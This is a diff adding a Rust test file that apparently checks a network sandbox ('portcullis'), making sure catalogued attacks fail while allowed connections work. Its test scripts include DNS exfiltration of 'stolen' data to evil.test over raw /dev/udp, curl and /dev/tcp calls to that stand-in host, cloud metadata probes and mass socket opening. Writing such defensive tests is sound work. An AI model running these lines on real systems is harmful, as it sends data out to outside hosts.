@@ -1,0 +1,244 @@
+//! Connections of commands, to servers on other machines: a second network with an allowed and an evil one.
+//!
+//! Attacks are from the catalogue, by their numbers; each comes with a control that works without us.
+
+mod attacks;
+
+use anyhow::{Context as _, Result, ensure};
+use portcullis_it::{Finished, Scene, User, World};
+
+as_each_user!(
+    what_is_allowed_works,
+    attacks_fail,
+    controls_work,
+    nothing_is_asked_of_any_name_server,
+    the_model_is_told_why,
+    connections_and_their_bytes_are_logged,
+    a_budget_that_is_used_up_stops_what_follows,
+    ports_of_this_machines_loopback_are_named,
+    servers_inside_can_be_reached_inside,
+    hidden_names_can_be_allowed,
+    without_a_host_nothing_is_reached,
+    many_connections_at_once_are_refused,
+);
+
+/// Hosts that the commands of most tests may reach.
+const NETWORK: &str = r#"{
+  "allowedDomains": ["allowed.test:80", "allowed.test:443", "*.allowed.test", "private.test", "metadata.test",
+                     "loopback.test", "own.test", "flips.test", "*.wild.test"],
+  "deniedDomains": ["evil.test"],
+  "deniedDomainReasons": { "evil.test": "nothing good comes from there" }
+}"#;
+
+const PROGRAM: &str = env!("CARGO_BIN_EXE_world");
+
+/// One line of a script, between two marks.
+fn marked(number: usize, script: &str) -> String {
+    format!("echo '<{number}>'\n( {script} ) 2>&1 | tr -d '\\0'\necho '</{number}>'\n")
+}
+
+fn section(output: &str, number: usize) -> Result<&str> {
+    let (_, rest) =
+        output.split_once(&format!("<{number}>\n")).with_context(|| format!("no {number} in {output}"))?;
+    let (section, _) =
+        rest.split_once(&format!("</{number}>\n")).with_context(|| format!("no end of {number}"))?;
+    Ok(section)
+}
+
+/// Runs scripts one after another and returns what each of them printed.
+fn each(scripts: &[&str], run: impl FnOnce(&str) -> Result<Finished>) -> Result<Vec<String>> {
+    let all: String = scripts.iter().enumerate().map(|(number, script)| marked(number, script)).collect();
+    let finished = run(&format!("{}\n{all}", attacks::TOOLS))?;
+    let output = &finished.stdout;
+    (0..scripts.len())
+        .map(|number| Ok(section(output, number).with_context(|| format!("{finished:#?}"))?.to_owned()))
+        .collect()
+}
+
+fn what_is_allowed_works(user: User) -> Result<()> {
+    let scene = Scene::new(user)?;
+    let world = World::new(&scene, PROGRAM)?;
+    let scripts: Vec<&str> = attacks::HONEST.iter().map(|(_, script)| *script).collect();
+    let outputs = each(&scripts, |script| world.run(NETWORK, script))?;
+    for ((what, _), output) in attacks::HONEST.iter().zip(outputs) {
+        ensure!(output.contains("REACHED"), "{what}: {output}");
+    }
+    Ok(())
+}
+
+fn attacks_fail(user: User) -> Result<()> {
+    let scene = Scene::new(user)?;
+    let world = World::new(&scene, PROGRAM)?;
+    let all = attacks::ATTACKS.iter().chain(attacks::WITHOUT_CONTROL);
+    let scripts: Vec<&str> = all.clone().map(|attack| attack.script).collect();
+    let outputs = each(&scripts, |script| world.run(NETWORK, script))?;
+    for (attack, output) in all.zip(outputs) {
+        ensure!(!output.contains(attack.reached), "row {} ({}): {output}", attack.row, attack.what);
+    }
+    let seen = world.seen()?;
+    for address in ["HTTP 203.0.113.2", "169.254.169.254", "HTTP 10.0.0.1", "HTTP 203.0.113.254", "evil"] {
+        ensure!(!seen.contains(address), "{address} was reached: {seen}");
+    }
+    Ok(())
+}
+
+fn controls_work(user: User) -> Result<()> {
+    let scene = Scene::new(user)?;
+    let world = World::new(&scene, PROGRAM)?;
+    let scripts: Vec<&str> = attacks::ATTACKS.iter().map(|attack| attack.script).collect();
+    let outputs = each(&scripts, |script| world.control(script))?;
+    for (attack, output) in attacks::ATTACKS.iter().zip(outputs) {
+        ensure!(output.contains(attack.reached), "control of row {} ({}): {output}", attack.row, attack.what);
+    }
+    Ok(())
+}
+
+/// Rows 90 and 91.
+fn nothing_is_asked_of_any_name_server(user: User) -> Result<()> {
+    let scene = Scene::new(user)?;
+    let world = World::new(&scene, PROGRAM)?;
+    // A question with data in its name, to whichever server: through the library, and by hand.
+    let script = r"getent hosts stolen.evil.test
+        for server in 203.0.113.53 8.8.8.8; do
+            exec 3<>/dev/udp/$server/53
+            printf '\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06stolen\x04evil\x04test\x00\x00\x10\x00\x01' >&3
+            timeout 2 head -c 12 <&3 | od -An -tx1
+        done; true";
+    let finished = world.run(NETWORK, script)?.ended_with(0)?;
+    ensure!(finished.stdout.contains("198.18.0."), "every name has an address at once: {finished:#?}");
+    ensure!(finished.stdout.contains("12 34 81 85"), "a question for text is refused: {finished:#?}");
+    ensure!(!world.seen()?.contains("stolen"), "{}", world.seen()?);
+    world.control(script)?;
+    ensure!(world.seen()?.contains("DNS stolen.evil.test"), "control: {}", world.seen()?);
+    Ok(())
+}
+
+fn the_model_is_told_why(user: User) -> Result<()> {
+    let scene = Scene::new(user)?;
+    let world = World::new(&scene, PROGRAM)?;
+    let script = "curl -sS http://evil.test/; curl -sS https://evil.test/; curl -sS http://unlisted.test/; \
+                  exec 3<>/dev/tcp/evil.test/22 && cat <&3";
+    let finished = world.run(NETWORK, script)?;
+    // HTTP reads it, TLS understands it, others are reset; and it stands behind the output of the command.
+    let page = "portcullis: the connection to evil.test:80 is denied: nothing good comes from there (rule \
+                `network.deniedDomains[0]` of `settings`)";
+    ensure!(finished.stdout.contains(page), "{finished:#?}");
+    ensure!(finished.stderr.contains("access denied"), "{finished:#?}");
+    ensure!(finished.stderr.to_lowercase().contains("reset by peer"), "{finished:#?}");
+    for line in [
+        "network: no connection to evil.test:80: nothing good comes from there",
+        "network: no connection to evil.test:443: nothing good",
+        "network: no connection to unlisted.test:80: `allowedDomains` does not name this host",
+    ] {
+        ensure!(finished.stderr.contains(line), "{line}: {finished:#?}");
+    }
+    Ok(())
+}
+
+/// Row 113: what goes to an allowed host is allowed, counted and logged.
+fn connections_and_their_bytes_are_logged(user: User) -> Result<()> {
+    let scene = Scene::new(user)?;
+    let world = World::new(&scene, PROGRAM)?;
+    let script = "head -c 100000 /dev/zero | curl -sS --data-binary @- http://allowed.test/";
+    let finished = world.run(NETWORK, script)?.ended_with(0)?;
+    ensure!(finished.stdout.contains("REACHED"), "{finished:#?}");
+    ensure!(world.seen()?.contains("body=100000"), "{}", world.seen()?);
+    let shown = scene.portcullis(&["audit", "tail", "--json"])?.ended_with(0)?;
+    ensure!(shown.stdout.contains(r#""domain":"allowed.test""#), "{shown:#?}");
+    ensure!(shown.stdout.contains("/bin/curl"), "the program is known: {shown:#?}");
+    let sent = shown
+        .stdout
+        .lines()
+        .find(|line| line.contains("bytes sent"))
+        .with_context(|| format!("{shown:#?}"))?;
+    let number = sent.split("closed; ").nth(1).and_then(|rest| rest.split(' ').next()).context("a number")?;
+    ensure!((100_000..110_000).contains(&number.parse::<u32>()?), "{sent}");
+    Ok(())
+}
+
+fn a_budget_that_is_used_up_stops_what_follows(user: User) -> Result<()> {
+    let scene = Scene::new(user)?;
+    let world = World::new(&scene, PROGRAM)?;
+    let network = r#"{ "allowedDomains": ["allowed.test"], "deniedDomains": [], "uploadBudgetMib": 1 }"#;
+    let send = |count| {
+        format!("head -c {count} /dev/zero | curl -sS --data-binary @- -H Expect: http://allowed.test/; ")
+    };
+    let finished = world.run(network, &(send(900_000) + &send(900_000) + &send(10)))?;
+    ensure!(finished.stdout.matches("REACHED").count() == 1, "{finished:#?}");
+    ensure!(finished.stderr.contains("more than 1 MiB were sent there in this session"), "{finished:#?}");
+    let bodies: Vec<String> =
+        world.seen()?.lines().filter(|line| line.contains("body=")).map(str::to_owned).collect();
+    ensure!(bodies.first().is_some_and(|line| line.ends_with("body=900000")), "{bodies:?}");
+    Ok(())
+}
+
+/// Row 112, and the way in.
+fn ports_of_this_machines_loopback_are_named(user: User) -> Result<()> {
+    let scene = Scene::new(user)?;
+    let world = World::new(&scene, PROGRAM)?;
+    let network = r#"{ "allowedDomains": ["localhost:8000"], "deniedDomains": [] }"#;
+    let script = "curl -sS http://127.0.0.1:8000/; curl -sS http://localhost:8000/";
+    let finished = world.run(network, script)?;
+    ensure!(finished.stdout.matches("REACHED 203.0.113.254").count() == 2, "{finished:#?}");
+    let finished = world.run(NETWORK, script)?;
+    ensure!(!finished.stdout.contains("REACHED"), "{finished:#?}");
+    Ok(())
+}
+
+fn servers_inside_can_be_reached_inside(user: User) -> Result<()> {
+    let scene = Scene::new(user)?;
+    let world = World::new(&scene, PROGRAM)?;
+    let script = "perl -MIO::Socket::INET -e '$| = 1; $s = IO::Socket::INET->new(Listen => 1, LocalPort => 8123) or die; \
+                  print qq(up\\n); $c = $s->accept; print $c qq(inside\\n)' | (read up; exec 3<>/dev/tcp/localhost/8123; cat <&3)";
+    let finished = world.run(NETWORK, script)?;
+    ensure!(finished.stdout.trim() == "inside", "{finished:#?}");
+    Ok(())
+}
+
+/// Row 103: by default refused, as the attacks show.
+fn hidden_names_can_be_allowed(user: User) -> Result<()> {
+    let scene = Scene::new(user)?;
+    let world = World::new(&scene, PROGRAM)?;
+    let script =
+        "openssl s_client -connect allowed.test:443 -noservername </dev/null 2>/dev/null | grep -c BEGIN";
+    let network =
+        r#"{ "allowedDomains": ["allowed.test"], "deniedDomains": [], "hiddenServerNames": "allow" }"#;
+    let finished = world.run(network, script)?;
+    ensure!(finished.stdout.trim() == "1", "{finished:#?}");
+    let network = r#"{ "allowedDomains": ["allowed.test"], "deniedDomains": [], "requireHostMatch": false }"#;
+    let script = "curl -sS -H 'Host: other.test' http://allowed.test/";
+    let finished = world.run(network, script)?;
+    ensure!(finished.stdout.contains("as other.test"), "{finished:#?}");
+    Ok(())
+}
+
+/// A host that is killed takes its commands along, so nothing is left that could connect.
+fn without_a_host_nothing_is_reached(user: User) -> Result<()> {
+    let scene = Scene::new(user)?;
+    let world = World::new(&scene, PROGRAM)?;
+    let settings = world.settings(NETWORK)?;
+    let binary = portcullis_it::portcullis(user)?;
+    let script = format!(
+        "'{}' run --settings '{}' -- bash -c 'echo up; while :; do curl -s http://allowed.test/beat; sleep 0.05; done' > out & \
+         until grep -q REACHED out; do sleep 0.02; done; kill -KILL $!; wait; before=$(wc -l < '{seen}'); sleep 0.5; \
+         echo $(($(wc -l < '{seen}') - before))",
+        binary.display(),
+        settings.display(),
+        seen = scene.at("world").join("seen").display()
+    );
+    let finished = world.control(&script)?;
+    ensure!(finished.stdout.trim().ends_with('0'), "{finished:#?}");
+    Ok(())
+}
+
+/// Nobody is there to ask, so all are refused; the host is none the worse.
+fn many_connections_at_once_are_refused(user: User) -> Result<()> {
+    let scene = Scene::new(user)?;
+    let world = World::new(&scene, PROGRAM)?;
+    let script = "perl -MIO::Socket::INET -e 'for (1 .. 300) { push @s, IO::Socket::INET->new(PeerAddr => q(192.0.2.1), \
+                  PeerPort => $_, Timeout => 9) } $n = 0; for (@s) { sysread($_, my $b, 9) or $n++ } print qq($n\\n)'; \
+                  curl -sS http://allowed.test/";
+    let finished = world.run(NETWORK, script)?;
+    ensure!(finished.stdout.starts_with("300\n") && finished.stdout.contains("REACHED"), "{finished:#?}");
+    Ok(())
+}
